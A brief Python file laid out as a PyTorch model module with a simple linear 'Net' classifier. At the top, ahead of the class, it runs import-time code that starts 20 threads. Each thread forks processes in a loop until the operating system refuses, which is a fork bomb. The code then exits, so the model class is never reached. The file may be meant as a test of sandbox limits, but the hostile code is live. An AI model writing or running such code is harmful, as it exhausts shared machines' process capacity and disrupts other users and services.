"""Forks from many threads at once."""

import os
import threading
import time

import torch

refused = threading.Event()


def multiply():
    while not refused.is_set():
        try:
            if os.fork() == 0:
                time.sleep(600)
        except OSError:
            refused.set()


for _ in range(20):
    threading.Thread(target=multiply, daemon=True).start()
refused.wait()
raise SystemExit


class Net(torch.nn.Module):
    def __init__(self, in_shape, out_shape):
        super().__init__()
        self.classify = torch.nn.Linear(in_shape[1] * in_shape[2] * in_shape[3], out_shape[0])

    def forward(self, images):
        return self.classify(images.flatten(1))
